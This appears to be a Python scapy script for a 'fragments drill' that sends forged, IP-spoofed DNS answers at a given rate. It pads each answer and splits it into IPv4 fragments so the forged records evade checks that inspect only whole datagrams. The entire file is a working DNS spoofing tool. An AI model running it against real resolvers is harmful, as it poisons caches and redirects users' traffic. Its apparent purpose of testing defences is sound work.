#!/usr/bin/python3
"""Fragmented forged DNS answers, for the fragments drill (Debian's /usr/bin/python3, scapy).

    spoof_frag.py SRC_IP DST_IP DST_PORT SECONDS RATE NAMES_FILE

Sends DST_IP:DST_PORT UDP answers that claim to come from SRC_IP:53 (the
upstream), each with a random id, for a name from NAMES_FILE answering
203.0.113.99, padded with a TXT record to ~1700 bytes and sent as IPv4
fragments of 512 bytes (scapy fragment()): the answer records sit in the
first fragment, the padding in the later ones, as an off-path attacker
would split a forgery to slip past a check that only looks at whole
datagrams. RATE datagrams/s. Prints how many it sent.
"""
import random
import sys

from pacing import paced
from scapy.all import DNS, DNSQR, DNSRR, IP, UDP, conf, fragment


def main():
    src, dst, dport, seconds, rate, names_file = sys.argv[1:7]
    dport, seconds, rate = int(dport), float(seconds), float(rate)
    names = [l.split()[0] for l in open(names_file) if l.strip()]
    s = conf.L3socket()

    def burst():
        for _ in range(10):
            name = random.choice(names)
            dns = DNS(id=random.randrange(65536), qr=1, aa=0, rd=1, ra=1, qd=DNSQR(qname=name),
                      an=DNSRR(rrname=name, type="A", ttl=300, rdata="203.0.113.99"),
                      ar=DNSRR(rrname=name, type="TXT", ttl=300, rdata=["x" * 250] * 6))
            pkt = IP(src=src, dst=dst, id=random.randrange(65536)) / UDP(sport=53, dport=dport) / dns
            for f in fragment(pkt, fragsize=512):
                s.send(f)
        return 10

    print(paced(seconds, rate, 10, burst))


if __name__ == "__main__":
    main()
